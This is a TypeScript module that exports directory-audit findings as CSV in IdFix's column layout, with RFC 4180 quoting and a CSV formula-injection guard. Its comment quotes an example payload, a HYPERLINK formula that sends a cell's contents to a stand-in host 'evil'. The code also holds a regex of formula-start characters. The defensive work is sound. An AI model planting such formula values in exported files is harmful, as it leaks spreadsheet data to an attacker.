/**
 * `fedgate doctor --csv`: the findings in IdFix's column layout (issue 21 "Output"), so an admin who knows IdFix's
 * export recognises the file and can sort and filter it in Excel the same way.
 *
 * Columns, in IdFix's order (IdFix 2.6: its grid's column names upper-cased by IdFixGrid.ToCsv, the same names its
 * CSV import maps back): DISTINGUISHEDNAME, COMMONNAME, OBJECTCLASS, ATTRIBUTE, ERROR, VALUE, UPDATE,
 * PROPOSEDACTION, ACTION.
 * - ERROR is the finding's class as fedgate names it (types.ts: IdFix's classes in lower case, then the
 *   federation classes), one class per row (IdFix joins several on one value with ", "; fedgate gives one row each).
 * - PROPOSEDACTION is IdFix's action name: `Edit` (a new value is proposed), `Remove` (removing the value is
 *   proposed), `Complete` (no automatic fix: keep as is, the admin decides). Never empty and never `None`: IdFix's
 *   "Accept" turns an empty or unknown proposed action into Edit, which with an empty UPDATE would delete the value.
 * - ACTION is empty: IdFix ignores rows without an action, and fedgate applies nothing (`--fix-ldif` is for that).
 *
 * Encoding: RFC 4180 (every field quoted, `"` doubled, CRLF line ends, values keep their own CR/LF inside quotes),
 * UTF-8 with a byte-order mark so Excel reads it as UTF-8 rather than the ANSI code page.
 *
 * Formula injection (OWASP "CSV Injection"): a directory value is chosen by whoever can edit that attribute, and
 * Excel / LibreOffice evaluate a cell whose text starts with `=`, `+`, `-` or `@` (and TAB or CR, which they skip
 * before such a character) as a formula, e.g. a displayName `=HYPERLINK("http://evil/?"&A1,"click")`. Rule: a
 * cell whose FIRST character is one of `=` `+` `-` `@` TAB CR gets one apostrophe `'` put in front. The
 * spreadsheet then shows it as text (with the apostrophe visible); quoting alone does not help, since the quotes
 * are removed before the cell is interpreted. The apostrophe is a display guard only: a program reading the file
 * removes one leading `'` when the character after it is one of those six. The JSON output carries the values
 * untouched.
 */
import type { DirectoryFinding } from './types.ts';

/** IdFix's export header, in its order. */
export const IDFIX_CSV_HEADER = [
  'DISTINGUISHEDNAME',
  'COMMONNAME',
  'OBJECTCLASS',
  'ATTRIBUTE',
  'ERROR',
  'VALUE',
  'UPDATE',
  'PROPOSEDACTION',
  'ACTION',
] as const;

/** The first characters a spreadsheet treats as the start of a formula (OWASP CSV Injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Makes a cell inert for spreadsheets: see the rule in the module comment. */
export function inertCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** RFC 4180 field: always quoted (a DN has commas; a value may hold quotes, CR or LF), `"` doubled. */
function field(value: string): string {
  return `"${inertCell(value).replace(/"/g, '""')}"`;
}

function proposedAction(f: DirectoryFinding): string {
  if (f.update === undefined) return 'Complete';
  return f.update === '' ? 'Remove' : 'Edit';
}

/** The findings as an IdFix-layout CSV file (UTF-8 with BOM, CRLF, RFC 4180). */
export function renderCsv(findings: readonly DirectoryFinding[]): string {
  const lines = [IDFIX_CSV_HEADER.join(',')];
  for (const f of findings) {
    lines.push(
      [
        f.dn,
        f.commonName,
        f.objectClass,
        f.attribute,
        f.class,
        f.value,
        f.update ?? '',
        proposedAction(f),
        '',
      ]
        .map(field)
        .join(','),
    );
  }
  return '\ufeff' + lines.join('\r\n') + '\r\n';
}
